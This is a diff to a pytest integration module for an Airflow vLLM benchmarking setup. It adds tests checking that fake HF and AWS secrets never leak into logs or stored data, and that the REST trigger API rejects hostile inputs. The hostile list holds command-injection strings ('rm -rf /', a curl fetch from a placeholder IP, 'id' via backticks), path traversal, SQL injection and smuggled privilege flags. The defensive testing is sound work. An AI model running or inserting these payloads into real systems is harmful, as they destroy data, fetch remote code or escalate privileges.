@@ -4,6 +4,11 @@ SQLite and 127.0.0.1, the LocalExecutor, and vLLM CPU in local mode on the tiny 
 A REST request with a partition key and an asset event with a partition key each produce a campaign
 run for that version that measures it; a repeated event for the same version produces a run that
 measures nothing (the lake already holds it), and the version backfill does not even request it.
+
+The same deployment checks two security points: every process runs with known fake secrets in its
+environment (HF token, AWS keys) and none of them may appear in any file the campaigns leave (task logs,
+the metadata DB with its XComs, the catalog, the lake, the work directories); and the REST API refuses
+hostile trigger inputs before any run exists.
 """
 
 from __future__ import annotations
@@ -29,6 +34,14 @@ from tests.servers import free_port
 
 pytestmark = [pytest.mark.airflow, pytest.mark.vllm]
 CAMPAIGN = "accelbench_cpu_version_campaign"
+# Known fake secrets in every Airflow process's environment: not one byte of them may land anywhere.
+FAKE_SECRETS = {
+    "HF_TOKEN": "hf_FAKEtokenQx7Rv2mZp9LkW4sNd8TjYb3",
+    "HUGGING_FACE_HUB_TOKEN": "hf_FAKEhubTokenK2cV8nB5xM1qW7eR4tY",
+    "AWS_ACCESS_KEY_ID": "AKIAFAKEKEY7Q2W3E4R5",
+    "AWS_SECRET_ACCESS_KEY": "FAKEsecretKey/9xT2vB7nM4kL1pQ8wE5rT3yU6iO0aS",
+    "AWS_SESSION_TOKEN": "FAKEsessionTokenZ8x7C6v5B4n3M2q1W0e9R8t7Y6u5I4o3P2",
+}
 RELEASES_ASSET = "accelbench.runtime.vllm_cpu_releases"
 
 
@@ -100,6 +113,7 @@ def airflow(
         "AIRFLOW__DAG_PROCESSOR__REFRESH_INTERVAL": "5",
         "AIRFLOW__DAG_PROCESSOR__MIN_FILE_PROCESS_INTERVAL": "5",
         "AIRFLOW__SCHEDULER__SCHEDULER_HEARTBEAT_SEC": "2",
+        **FAKE_SECRETS,
         "ACCELBENCH_HOME": str(accelbench_home),
         "ACCELBENCH_OFFLINE": "1",
         "ACCELBENCH_REGISTRY_URL": "http://127.0.0.1:9",  # never the real registry
@@ -229,3 +243,52 @@ def test_partition_keys_from_rest_and_asset_events_run_one_campaign_per_version(
     }
     time.sleep(10)  # give the scheduler a chance to (wrongly) create a run
     assert len(airflow.runs(CAMPAIGN)) == 3 and _server_starts(airflow.accelbench_home) == 2
+
+
+HOSTILE_CONF = [
+    ("model", "org/model; rm -rf /"),
+    ("model", "$(curl http://198.51.100.7/x)"),
+    ("model", "../../etc/passwd"),
+    ("model", "org/model\n--trust-remote-code"),
+    ("extra_engine_args", ["--enforce-eager; id"]),
+    ("extra_engine_args", ["--served-model-name=x`id`"]),
+    ("extra_engine_args", ["--enforce-eager --trust-remote-code"]),
+    ("extra_engine_args", ["--chat-template={{ x }}"]),
+    ("version", "0.32.0 && id"),
+    ("instance_types", ["m8g.xlarge'; DROP TABLE instance_types;--"]),
+    ("concurrency", ["1; id"]),
+    ("execution_mode", "kubernetes\nprivileged: true"),
+]
+
+
+def test_rest_refuses_hostile_trigger_inputs_before_a_run_exists(airflow: Airflow) -> None:
+    """What the trigger form posts is validated by the same Param schemas: 400 naming the param."""
+    dag_id = "accelbench_cpu_campaign"
+    before = len(airflow.runs(dag_id))
+    for field, value in HOSTILE_CONF:
+        response = httpx.post(
+            f"{airflow.url}/api/v2/dags/{dag_id}/dagRuns",
+            json={"logical_date": None, "conf": {field: value}},
+            timeout=30,
+        )
+        assert response.status_code == 400, (field, value, response.status_code, response.text)
+        assert field in response.text, (field, response.text)
+    assert len(airflow.runs(dag_id)) == before
+
+
+def test_no_secret_reaches_logs_xcom_the_catalog_or_the_lake(airflow: Airflow) -> None:
+    """Runs last in this module: after the campaigns above, every file they left is searched."""
+    assert airflow.runs(CAMPAIGN), "a campaign ran with the fake secrets in its environment"
+    roots = (airflow.home, airflow.accelbench_home, airflow.logs)
+    files = [p for root in roots for p in root.rglob("*") if p.is_file()]
+    task_logs = [p for p in files if "dag_id=" + CAMPAIGN in str(p) and "task_id=benchmark" in str(p)]
+    assert task_logs and any("vLLM server healthy" in p.read_text(errors="replace") for p in task_logs)
+    assert any(p.name == "airflow.db" for p in files) and any(p.suffix == ".parquet" for p in files)
+    assert any(p.name == "server.log" for p in files) and any(p.name == "envelope.json" for p in files)
+    leaks = [
+        (name, str(path))
+        for path in files
+        for name, value in FAKE_SECRETS.items()
+        if value.encode() in path.read_bytes()
+    ]
+    assert leaks == [], leaks
